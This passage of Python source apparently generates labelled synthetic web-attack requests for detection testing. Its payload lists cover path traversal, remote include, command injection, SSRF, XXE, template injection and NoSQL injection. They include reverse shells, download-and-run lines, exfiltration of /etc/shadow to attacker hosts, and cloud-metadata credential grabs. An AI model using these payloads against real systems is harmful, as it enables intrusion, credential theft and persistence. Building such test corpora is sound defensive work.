    ("proc-1-environ", "../../../../proc/1/environ"),
    ("windows-hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("zip-slip-cron", "../../../../etc/cron.d/backup"),
    ("dotdot-semicolon", "..;/..;/WEB-INF/classes/application.properties"),
]
LFI_FIELDS = ["template", "file", "path", "page", "download", "attachment", "layout", "view", "lang", "theme"]
LFI_CARRIERS = [car_get_param, car_rails_form, car_get_param, car_drf_json, car_livewire3, car_inertia,
                car_next_action, car_next_data, car_get_param, car_json_cookie, car_graphql, car_ndjson,
                car_gzip_json, car_json_patch, car_ce_binary, car_htmx_form, car_mp_field, car_mp_filename,
                car_get_param, car_phoenix_form, car_aspnet_form, car_nest_json, car_signed_cookie,
                car_deflate_form, car_mp_filename]


def atk_lfi(c):
    spread(c, "lfi", LFI, LFI_CARRIERS, LFI_FIELDS)
    # Rails CVE-2019-5418: render file: with the Accept header
    for slug, acc in [("rails-cve-2019-5418-accept-passwd", "../../../../../../../../etc/passwd{{"),
                      ("rails-cve-2019-5418-accept-credentials", "../../../../../../../../config/credentials.yml.enc{{")]:
        c.req("lfi", slug, "GET", H_RAILS, c.pick(["/users/sign_in", "/help/faq", "/pages/about"]), accept=acc, ua="chrome")
    c.req("lfi", "tomcat-path-param-webinf", "GET", H_SPRING, "/static/..;/..;/WEB-INF/web.xml", accept="any", ua="curl")
    c.req("lfi", "express-static-encoded-dots", "GET", H_EXPRESS, "/public/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
          accept="any", ua="curl")


RFI = [
    ("http-shell-txt", "http://attacker.example.org/shell.txt?"),
    ("https-php", "https://static.evil-cdn.example/x.php"),
    ("ftp-include", "ftp://198.51.100.77/pub/s.txt"),
    ("smb-unc", "\\\\198.51.100.77\\share\\shell.php"),
    ("data-wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("http-null", "http://203.0.113.45/inc.txt\x00"),
    ("http-ip-query", "http://192.0.2.201/c99.txt?x="),
    ("raw-gist-php", "https://gist.githubusercontent.com/x0r/5a1b/raw/shell.php"),
    ("pastebin-raw", "http://pastebin.com/raw/Xy12AbC3?"),
    ("userinfo-bypass", "http://example.com@attacker.example.org/s.txt?"),
    ("protocol-relative", "//attacker.example.org/shell.txt"),
    ("mixed-case-scheme", "hTtPs://attacker.example.org/x.txt?"),
    ("php-ext-hash", "http://attacker.example.org/r57.php#"),
    ("webdav-include", "http://198.51.100.77:8080/dav/inc.php?"),
    ("ip-decimal-include", "http://3325256781/shell.txt?"),
]
RFI_FIELDS = ["page", "include", "template", "module", "lang", "theme", "layout", "view", "tpl", "file"]
RFI_CARRIERS = [car_get_param, car_livewire2, car_inertia, car_get_param, car_json_cookie, car_htmx_form,
                car_mp_field, car_get_param, car_phoenix_form, car_aspnet_form, car_deflate_form, car_drf_json,
                car_get_param, car_rails_form, car_livewire3]


def atk_rfi(c):
    spread(c, "rfi", RFI, RFI_CARRIERS, RFI_FIELDS)


RCE = [
    ("semicolon-id", "127.0.0.1; id"),
    ("pipe-passwd", "example.com | cat /etc/passwd"),
    ("subshell-curl-sh", "$(curl -s http://198.51.100.77/s.sh|sh)"),
    ("backtick-wget", "`wget -qO- http://attacker.example.org/x|sh`"),
    ("and-whoami", "report.pdf && whoami"),
    ("newline-id", "8.8.8.8\nid"),
    ("or-ping", "x || ping -c 10 127.0.0.1"),
    ("bash-revshell", "; bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"),
    ("nc-e", "|nc -e /bin/sh 203.0.113.45 4444"),
    ("brace-expansion", ";{cat,/etc/passwd}"),
    ("ifs", ";cat${IFS}/etc/passwd"),
    ("glob-obfus", ";/???/??t /???/p??s??"),
    ("quote-obfus", ";c'a't /e\"t\"c/pa''sswd"),
    ("backslash-obfus", "a;w\\h\\o\\a\\m\\i"),
    ("powershell-enc", "& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    ("certutil", "| certutil -urlcache -split -f http://198.51.100.77/a.exe %TEMP%\\a.exe"),
    ("cmd-dir", "& cmd /c dir C:\\"),
    ("node-child-process", "require('child_process').execSync('id').toString()"),
    ("node-mainmodule", "process.mainModule.require('child_process').exec('curl http://198.51.100.77/x|sh')"),
    ("python-import-os", "__import__('os').system('id')"),
    ("python-subprocess", "__import__('subprocess').check_output(['cat','/etc/passwd'])"),
    ("ruby-interp-backtick", "#{`id`}"),
    ("curl-data-exfil", "; curl -d @/etc/passwd http://attacker.example.org/"),
    ("wget-post-file", "`wget --post-file=/etc/shadow http://198.51.100.77/`"),
    ("pipe-sleep", "| sleep 10"),
    ("nslookup-exfil", "$(nslookup $(whoami).k2p9.oast.site)"),
    ("printf-hex", "; $(printf '\\x69\\x64')"),
    ("base64-pipe-sh", "; echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43Ny94fHNo | base64 -d | sh"),
    ("python-revshell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.77\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("mkfifo-revshell", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.77 4444 >/tmp/f"),
    ("git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("crontab-persist", "; echo '* * * * * root curl http://198.51.100.77/x|sh' >> /etc/crontab"),
    ("perl-exec", "; perl -e 'exec \"/bin/sh\"'"),
    ("dollar-brace-env", "${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd;"),
    ("semicolon-uname-tab", "x;\tuname\t-a"),
]
RCE_FIELDS = ["host", "filename", "domain", "url", "target", "ip", "branch", "format", "cmd", "name"]
RCE_CARRIERS = [car_rails_form, car_rails_json, car_django_form, car_drf_json, car_livewire2, car_livewire3,
                car_inertia, car_next_action, car_next_action_mp, car_qs_bracket, car_json_cookie, car_graphql,
                car_ndjson, car_gzip_json, car_deflate_form, car_json_patch, car_ce_binary, car_ce_structured,
                car_htmx_form, car_htmx_json, car_mp_field, car_mp_filename, car_phoenix_form, car_liveview,
                car_aspnet_form, car_spring_json, car_nest_json, car_socketio, car_signalr, car_hasura,
                car_merge_patch, car_get_param, car_strapi, car_rails_query]


def atk_rce(c):
    spread(c, "rce", RCE, RCE_CARRIERS, RCE_FIELDS)
    hdr_attack(c, "rce", "shellshock-user-agent", "GET", H_SPRING, "/cgi-bin/status", "User-Agent",
               "() { :; }; /bin/bash -c 'curl http://198.51.100.77/x|sh'", accept="any")
    hdr_attack(c, "rce", "shellshock-referer", "GET", H_ASPNET, "/cgi-bin/test.cgi", "Referer",
               "() { ignored;}; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd", accept="any")
    c.req("rce", "rails-cve-2020-8163-locals", "GET", H_RAILS,
          "/pages/home?" + q("[system('curl http://198.51.100.77/x|sh')]") + "=1", accept="html")
    mvg = ("push graphic-context\nviewbox 0 0 640 480\n"
           "fill 'url(https://example.com/image.jpg\"|curl -s http://198.51.100.77/x|sh\")'\npop graphic-context\n")
    c.mp("rce", "imagetragick-mvg-upload", "POST", H_RAILS, "/users/avatar",
         [("authenticity_token", c.rails_token()), ("user[avatar]", "avatar.jpg", "image/jpeg", mvg)],
         origin=True, cookie=c.cookie("rails"))
    eps = ("%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nuserdict /setpagedevice undef\nsave\nlegal\n"
           "{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\n"
           "mark /OutputFile (%pipe%curl http://198.51.100.77/x|sh) currentdevice putdeviceprops\n")
    c.mp("rce", "ghostscript-eps-upload", "POST", H_DJANGO, "/documents/upload/",
         [("csrfmiddlewaretoken", c.django_token()), ("file", "diagram.eps", "application/postscript", eps)],
         origin=True, cookie=c.cookie("django"))


SSRF = [
    ("aws-iam-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("aws-user-data", "http://169.254.169.254/latest/user-data"),
    ("gcp-token-v1beta1", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("alibaba-meta", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("aws-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("decimal-ip", "http://2852039166/latest/meta-data/"),
    ("hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("mixed-ip", "http://169.254.43518/latest/meta-data/"),
    ("ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("short-loopback", "http://127.1:8080/admin"),
    ("zero-ip", "http://0/server-status"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20http://198.51.100.77/x|sh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/etc/cron.d%0D%0ASAVE%0D%0A"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("docker-socket-api", "http://127.0.0.1:2375/containers/json"),
    ("consul-agent", "http://localhost:8500/v1/agent/self"),
    ("nip-io-rebind", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("userinfo-confusion", "http://example.com@169.254.169.254/latest/meta-data/"),
    ("fragment-confusion", "http://169.254.169.254#@images.example.com/"),
    ("file-scheme", "file:///etc/passwd"),
    ("actuator-local", "http://127.0.0.1:8080/actuator/env"),
    ("ipv6-unspecified", "http://[::]:80/"),
    ("enclosed-alnum", "http://\u2460\u2466\u2468.\u2464\u2463.\u2460\u2466\u2468.\u2464\u2463/latest/meta-data/"),
    ("ecs-task-creds", "http://169.254.170.2/v2/credentials/"),
    ("digitalocean-meta", "http://169.254.169.254/metadata/v1.json"),
    ("cluster-internal", "http://admin-api.internal.svc.cluster.local:8080/users"),
    ("hex-loopback", "http://0x7f000001:9200/_cat/indices"),
    ("ipv6-mapped-loopback", "http://[0:0:0:0:0:ffff:127.0.0.1]:6379/"),
]
SSRF_FIELDS = ["webhook_url", "avatar_url", "callback_url", "feed_url", "image_url", "import_url", "source", "url",
               "logo", "endpoint"]
SSRF_CARRIERS = [car_rails_form, car_rails_json, car_django_form, car_drf_json, car_livewire2, car_livewire3,
                 car_inertia, car_next_action, car_next_action_mp, car_graphql, car_ce_binary, car_ce_structured,
                 car_json_patch, car_merge_patch, car_htmx_form, car_htmx_json, car_ndjson, car_gzip_json,
                 car_mp_field, car_nest_json, car_spring_json, car_aspnet_form, car_phoenix_form, car_get_param,
                 car_get_param, car_deflate_form, car_wp_content, car_socketio]


def atk_ssrf(c):
    spread(c, "ssrf", SSRF, SSRF_CARRIERS, SSRF_FIELDS)
    c.req("ssrf", "next-image-optimizer-metadata", "GET", H_NEXT,
          "/_next/image?" + qs([("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
                                ("w", "256"), ("q", "75")]), accept="any")
    c.req("ssrf", "wp-oembed-proxy-internal", "GET", H_WP,
          "/wp-json/oembed/1.0/proxy?" + qs([("url", "http://127.0.0.1:8080/server-status")]), accept="json",
          cookie=c.cookie("wp"), extra=[("X-WP-Nonce", c.hex(10))])
    body = ("<?xml version=\"1.0\"?>\n<methodCall><methodName>pingback.ping</methodName><params>"
            "<param><value><string>http://169.254.169.254/latest/meta-data/</string></value></param>"
            f"<param><value><string>https://{H_WP}/2025/05/tomato-guide/</string></value></param></params></methodCall>\n")
    c.req("ssrf", "wp-xmlrpc-pingback", "POST", H_WP, "/xmlrpc.php", body, "text/xml", accept="any", ua="python")
    c.json("ssrf", "spring-cloud-gateway-route", "POST", H_SPRING, "/actuator/gateway/routes/meta",
           {"id": "meta", "predicates": [{"name": "Path", "args": {"_genkey_0": "/meta/**"}}], "filters": [],
            "uri": "http://169.254.169.254/latest/meta-data/"}, ua="curl")
    c.json("ssrf", "directus-files-import", "POST", H_DIRECTUS, "/files/import",
           {"url": "http://127.0.0.1:8055/server/info", "data": {"title": "scan"}}, ua="node",
           extra=[("Authorization", "Bearer " + c.alnum(32))])


XXE_FILE = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} [\n  <!ENTITY xxe SYSTEM "{url}">\n]>\n'


def atk_xxe(c):
    def doc(root, url, inner):
        return XXE_FILE.replace("{root}", root).replace("{url}", url) + inner
    c.req("xxe", "spring-xml-body-file", "POST", H_SPRING, "/api/vehicles",
          doc("vehicle", "file:///etc/passwd", "<vehicle><name>&xxe;</name><status>ACTIVE</status></vehicle>\n"),
          "application/xml", accept="application/xml", extra=[("Authorization", "Bearer " + c.jwt())])
    oob = ('<?xml version="1.0"?>\n<!DOCTYPE patient [\n  <!ENTITY % dtd SYSTEM "http://k2p9.oast.site/x.dtd">\n  %dtd;\n  %send;\n]>\n'
           "<root><first_name>Ann</first_name></root>\n")
    c.req("xxe", "drf-xml-oob-parameter-entity", "POST", H_DJANGO, "/api/v1/patients/", oob, "application/xml",
          accept="application/xml", cookie=c.cookie("django"))
    soap = ('<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n'
            '  <soap:Body>\n    <GetEmployee xmlns="http://contoso-hr.com/">\n'
            '      <id><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///c:/windows/win.ini"/></id>\n'
            "    </GetEmployee>\n  </soap:Body>\n</soap:Envelope>\n")
    c.req("xxe", "asmx-soap-xinclude", "POST", H_ASPNET, "/Services/Directory.asmx", soap, "text/xml; charset=utf-8",
          accept=None, ua="python", extra=[("SOAPAction", '"http://contoso-hr.com/GetEmployee"')])
    svg = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///proc/self/environ"> ]>\n'
           '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="80"><text x="4" y="40">&xxe;</text></svg>\n')
    c.mp("xxe", "svg-upload-active-storage", "POST", H_RAILS, "/rails/active_storage/direct_uploads/attach",
         [("authenticity_token", c.rails_token()), ("product[image]", "logo.svg", "image/svg+xml", svg)],
         origin=True, cookie=c.cookie("rails"))
    opml = ('<?xml version="1.0"?>\n<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///var/www/app/.env">]>\n'
            '<opml version="2.0"><head><title>&x;</title></head><body><outline text="News" xmlUrl="https://example.com/feed.xml"/></body></opml>\n')
    c.mp("xxe", "opml-import-laravel", "POST", H_LARAVEL, "/feeds/import",
         [("_token", c.laravel_token()), ("file", "subscriptions.opml", "text/x-opml", opml)], origin=True,
         cookie=c.cookie("laravel"))
    saml = ('<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [<!ENTITY % x SYSTEM "http://hook.ssrf-probe.example/saml.dtd"> %x;]>\n'
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0" IssueInstant="2025-06-01T10:00:00Z">'
            '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com</saml:Issuer></samlp:Response>')
    c.form("xxe", "saml-acs-base64-dtd", "POST", H_ASPNET, "/Saml2/Acs",
           [("SAMLResponse", base64.b64encode(saml.encode()).decode()), ("RelayState", "/")], origin="https://idp.example.com")
    c.req("xxe", "cloudevent-binary-xml-data", "POST", "events.fleetops.io", "/",
          doc("shipment", "file:///etc/hostname", "<shipment><id>&xxe;</id></shipment>\n"), "application/xml",
          accept=None, ua="knative",
          extra=[("ce-specversion", "1.0"), ("ce-type", "com.fleetops.shipment.updated"), ("ce-source", "/shipments"),
                 ("ce-id", c.uuid())])
    c.req_raw("xxe", "utf16-xml-file-entity", "POST", H_ASPNET, "/api/timesheets/import",
              utf16(doc("timesheet", "file:///c:/inetpub/wwwroot/web.config", "<timesheet><note>&xxe;</note></timesheet>\n")
                    .replace('encoding="UTF-8"', 'encoding="UTF-16"')),
              "application/xml; charset=utf-16", accept="application/xml", ua="python")
    c.req_raw("xxe", "gzip-xml-file-entity", "POST", H_SPRING, "/api/manifests",
              gz(doc("manifest", "file:///etc/passwd", "<manifest><ref>&xxe;</ref></manifest>\n")),
              "application/xml", cenc="gzip", accept="application/xml", ua="okhttp")
    lol = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
           ' <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
           ' <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n'
           ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
           ' <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n'
           ' <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n]>\n<lolz>&lol5;</lolz>\n')
    c.req("xxe", "billion-laughs-spring", "POST", H_SPRING, "/api/import", lol, "application/xml", accept="any", ua="curl")
    local = ('<?xml version="1.0"?>\n<!DOCTYPE message [\n'
             '  <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
             '  <!ENTITY % ISOamso \'\n    <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n'
             '    <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n'
             "    &#x25;eval;\n    &#x25;error;\n  '>\n  %local_dtd;\n]>\n<message>x</message>\n")
    c.req("xxe", "local-dtd-repurpose", "POST", H_SPRING, "/ws/orders", local, "text/xml", accept=None, ua="python")
    c.req("xxe", "expect-wrapper-entity", "POST", H_WP, "/xmlrpc.php",
          doc("methodCall", "expect://id", "<methodCall><methodName>&xxe;</methodName></methodCall>\n"), "text/xml",
          accept=None, ua="python")
    c.req("xxe", "php-filter-entity", "POST", H_LARAVEL, "/api/invoices/import",
          doc("invoice", "php://filter/convert.base64-encode/resource=/var/www/app/.env", "<invoice><number>&xxe;</number></invoice>\n"),
          "application/xml", accept="json", ua="python", cookie=c.cookie("laravel"))
    c.req("xxe", "jar-protocol-entity", "POST", H_SPRING, "/api/reports",
          doc("report", "jar:http://198.51.100.77:8000/x.jar!/file.txt", "<report>&xxe;</report>\n"),
          "application/xml", accept="any", ua="okhttp")
    propfind = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE d:propfind [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>\n'
                '<d:propfind xmlns:d="DAV:"><d:prop><d:displayname>&xxe;</d:displayname></d:prop></d:propfind>\n')
    c.req("xxe", "webdav-propfind", "PROPFIND", H_ASPNET, "/dav/shared/", propfind, "application/xml; charset=utf-8",
          accept=None, ua="Microsoft-WebDAV-MiniRedir/10.0.19045", extra=[("Depth", "1")])
    extdtd = ('<?xml version="1.0"?>\n<!DOCTYPE soapenv:Envelope SYSTEM "http://203.0.113.45/evil.dtd">\n'
              '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>'
              '<ns:getVehicle xmlns:ns="http://fleetops.io/ws"><ns:id>7</ns:id></ns:getVehicle></soapenv:Body></soapenv:Envelope>\n')
    c.req("xxe", "spring-ws-external-dtd", "POST", H_SPRING, "/ws", extdtd, "text/xml; charset=utf-8", accept=None,
          ua="python", extra=[("SOAPAction", '""')])


SSTI = {
    "jinja2": [
        ("self-init-globals", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("cycler-os-popen", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
        ("lipsum-globals", "{{ lipsum.__globals__['os'].popen('curl http://198.51.100.77/x|sh').read() }}"),
        ("subclasses-loop", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
        ("attr-filter-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
        ("config-globals", "{{ config.__class__.__init__.__globals__['os'].popen('ls -la /').read() }}"),
    ],
    "twig": [
        ("filter-system", "{{['id']|filter('system')}}"),
        ("map-passthru", "{{['cat /etc/passwd']|map('passthru')|join}}"),
        ("register-undefined-filter", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
        ("sort-system", "{{['id',1]|sort('system')|join(',')}}"),
    ],
    "erb": [
        ("system", "<%= system('id') %>"),
        ("backtick", "<%= `cat /etc/passwd` %>"),
        ("io-popen", "<%= IO.popen('curl http://198.51.100.77/x|sh').readlines() %>"),
        ("file-read", "<%= File.open('/etc/passwd').read %>"),
    ],
    "thymeleaf": [
        ("preprocess-runtime", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        ("inline-expression", "[[${T(java.lang.Runtime).getRuntime().exec('curl http://198.51.100.77/x')}]]"),
        ("selection-ioutils", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ],
    "freemarker": [
        ("execute-assign", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("execute-inline", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}"),
        ("square-bracket-syntax", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}"),
    ],
    "velocity": [
        ("class-forname-runtime", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
        ("class-inspect", "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"curl http://198.51.100.77/x\"))$x.waitFor()"),
        ("classloader", "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))"),
    ],
    "razor": [
        ("process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"),
        ("code-block-powershell", "@{ System.Diagnostics.Process.Start(\"powershell\", \"-nop -c iwr http://198.51.100.77/a.ps1|iex\"); }"),
        ("file-read", "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")"),
    ],
    "pug": [
        ("interp-mainmodule", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('curl http://198.51.100.77/x|sh')}()}"),
        ("code-line", "- var x = root.process.mainModule.require('child_process').execSync('id')"),
        ("interp-require", "#{global.process.mainModule.require('child_process').execSync('cat /etc/passwd')}"),
    ],
    "ejs": [
        ("output-execsync", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
        ("scriptlet-exec", "<% process.mainModule.require('child_process').exec('curl http://198.51.100.77/x|sh') %>"),
        ("include-passwd", "<%- include('/etc/passwd') %>"),
    ],
    "nunjucks": [("range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}")],
    "handlebars": [("with-string-sub-apply", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")],
    "smarty": [("system-tag", "{system('cat /etc/passwd')}")],
    "mako": [("module-os", "${self.module.cache.util.os.system(\"id\")}")],
}
SSTI_CARRIERS = {
    "jinja2": [car_django_form, car_drf_json, car_django_lookup, car_ce_structured, car_gzip_json, car_htmx_form],
    "twig": [car_htmx_json, car_json_patch, car_mp_field, car_deflate_form],
    "erb": [car_rails_form, car_rails_json, car_rails_query, car_mp_field],
    "thymeleaf": [car_spring_query, car_spring_json, car_merge_patch],
    "freemarker": [car_spring_json, car_ce_binary, car_json_patch],
    "velocity": [car_spring_query, car_graphql, car_ce_structured],
    "razor": [car_aspnet_form, car_signalr, car_utf16_json],
    "pug": [car_next_action, car_qs_bracket, car_json_cookie],
    "ejs": [car_nest_json, car_next_action_mp, car_socketio],
    "nunjucks": [car_graphql],
    "handlebars": [car_ndjson],
    "smarty": [car_livewire2],
    "mako": [car_directus],
}
SSTI_FIELDS = ["greeting", "subject", "template", "name", "signature", "message", "footer"]


def atk_ssti(c):
    for engine, items in SSTI.items():
        spread(c, "ssti", [(f"{engine}-{s}", p) for s, p in items], SSTI_CARRIERS[engine], SSTI_FIELDS)
    # Spring view-name manipulation (Thymeleaf) through the path and a lang parameter
    c.req("ssti", "thymeleaf-view-name-path", "GET", H_SPRING,
          "/doc/" + q("__${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")}__::.x", safe=""),
          accept="html", ua="curl")
    c.req("ssti", "thymeleaf-view-name-lang", "GET", H_SPRING,
          "/?" + qs([("lang", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x")]),
          accept="html", ua="chrome")
    # Strapi CVE-2023-22621: lodash template in e-mail templates
    tpl = ("<%= `${ process.binding(\"spawn_sync\").spawn({\"file\":\"/bin/sh\",\"args\":[\"/bin/sh\",\"-c\","
           "\"curl http://198.51.100.77/x|sh\"],\"stdio\":[{\"readable\":1,\"writable\":1,\"type\":\"pipe\"}]}).output }` %>")
    c.json("ssti", "strapi-email-template-lodash", "PUT", H_STRAPI, "/users-permissions/email-templates",
           {"email-templates": {"email_confirmation": {"display": "Email.template.email_confirmation", "options": {
               "from": {"name": "Daily Harbor", "email": "no-reply@dailyharbor.news"}, "object": "Confirm",
               "message": tpl}}}}, ua="chrome", extra=[("Authorization", "Bearer " + c.jwt())])


def atk_nosqli(c):
    cat = "nosqli"
    c.req(cat, "qs-login-password-ne", "POST", H_EXPRESS, "/auth/login",
          "email=admin%40quickcart.dev&password[$ne]=x", FORM, accept="axios", origin=True, ua="chrome")
    c.req(cat, "qs-regex-username-exists", "GET", H_EXPRESS,
          "/api/users?username[$regex]=^adm&password[$exists]=true", accept="axios", ua="chrome")
    c.req(cat, "qs-role-ne-fields", "GET", H_EXPRESS, "/api/users?role[$ne]=user&fields=email,passwordHash",
          accept="axios", ua="curl")
    c.json(cat, "json-login-password-ne-null", "POST", H_EXPRESS, "/api/auth/login",
           {"username": "admin", "password": {"$ne": None}}, ua="axios")
    c.json(cat, "json-login-in-gt", "POST", H_EXPRESS, "/api/auth/login",
           {"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$gt": ""}}, ua="chrome", origin=True)
    c.json(cat, "json-where-sleep", "POST", H_EXPRESS, "/api/products/search",
           {"filter": {"$where": "sleep(5000) || true"}, "limit": 20}, ua="curl")
    c.json(cat, "json-where-password-match", "POST", H_EXPRESS, "/api/auth/login",
           {"username": "admin", "$where": "this.password.match(/^a.*/)"}, ua="python")
    c.json(cat, "json-expr-function", "POST", H_EXPRESS, "/api/v1/reports/run",
           {"match": {"$expr": {"$function": {"body": "function(){ sleep(5000); return true; }", "args": [], "lang": "js"}}}},
           ua="axios", extra=[("Authorization", "Bearer " + c.jwt())])
    c.json(cat, "where-string-breakout", "POST", H_EXPRESS, "/api/users/lookup",
           {"username": "admin' || '1'=='1"}, ua="curl")
    c.json(cat, "where-string-sleep", "POST", H_EXPRESS, "/api/users/lookup",
           {"username": "';sleep(5000);var x='"}, ua="curl")
    c.form(cat, "rails-mongoid-password-ne", "POST", H_RAILS, "/users/sign_in",
           [("authenticity_token", c.rails_token()), ("user[email]", "admin@gearshed.com"), ("user[password][$ne]", "1")],
           origin=True, cookie=c.cookie("rails"))
    c.req(cat, "next-action-object-ne", "POST", H_NEXT, "/login",
          jd([{"email": "admin@northwind-travel.com", "password": {"$ne": None}}]), TEXT_PLAIN, accept="rsc",
          origin=True, extra=[("Next-Action", c.next_action_id()), ("Next-Router-State-Tree", next_tree(c, "/login"))])
    c.json(cat, "graphql-json-filter-regex", "POST", H_GQL, "/graphql",
           c.gql_body("query Users($filter: JSON) { users(filter: $filter) { id email role } }",
                      {"filter": {"email": {"$regex": ".*"}, "password": {"$ne": ""}}}, "Users"), accept="gql")
    c.req(cat, "json-cookie-userid-ne", "GET", H_EXPRESS, "/api/me", accept="axios",
          cookie="session=j%3A" + uric(jd({"userId": {"$ne": None}})))
    c.req_raw(cat, "gzip-login-password-gt", "POST", H_EXPRESS, "/api/v2/auth/login",
              gz(jd({"email": "admin@quickcart.dev", "password": {"$gt": ""}, "device": "ios"})), JSON, cenc="gzip",
              accept="json", ua="ios-app")
    c.json(cat, "lookup-users-pipeline", "POST", H_EXPRESS, "/api/v1/orders/aggregate",
           {"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
                         {"$project": {"u.passwordHash": 1, "u.email": 1}}]}, ua="axios",
